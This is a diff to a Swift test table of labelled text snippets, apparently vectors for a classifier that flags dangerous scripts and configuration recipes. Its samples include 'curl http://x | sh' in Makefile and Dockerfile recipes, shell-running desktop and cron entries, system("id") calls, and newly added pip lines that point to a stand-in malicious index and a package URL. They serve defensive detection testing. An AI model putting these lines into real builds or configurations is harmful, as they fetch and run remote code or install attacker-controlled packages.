@@ -23,13 +23,20 @@ extension TextVector {
     .init("h_ruby", .unsafe, "system(\"id\")\n"),
     .init("h_vbs", .unsafe, "CreateObject(\"WScript.Shell\").Run \"calc\"\n"),
     .init("h_c", .unknown, "// x\n#include <stdio.h>\nint main() { return 0; }\n"),
+    .init("h_r", .unsafe, "x <- system(\"id\")\n"),
     .init("h_js", .unknown, "fetch('https://x/y').then(console.log)\n"),
+    .init(
+      "h_c2", .unknown,
+      "/* x */\nstruct a {\n  int b;\n};\nint f(int x) {\n  return x;\n}\nvoid g() {\n  f(1);\n}\nint y = 1;\n"
+    ),
     .init("h_html", .unknown, "<div><script>alert(1)</script></div>"),
   ]
 
   private static let recipes: [TextVector] = [
     .init("r_make", .unknown, "all:\n\tcurl http://x | sh\n"),
     .init("r_docker", .unknown, "FROM x\nRUN apt-get update && \\\n    curl http://x | sh\n"),
+    .init("r_index", .unknown, "--index-url http://evil.example/simple\ntorch\n"),
+    .init("r_package", .unknown, "torch\nevil @ http://x/y.tar.gz\n"),
     .init("r_desktop", .unknown, "[Desktop Entry]\nExec=sh -c id\n"),
     .init("r_unit", .unknown, "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/x\n"),
     .init("r_cron", .unknown, "* * * * * /tmp/x\n"),
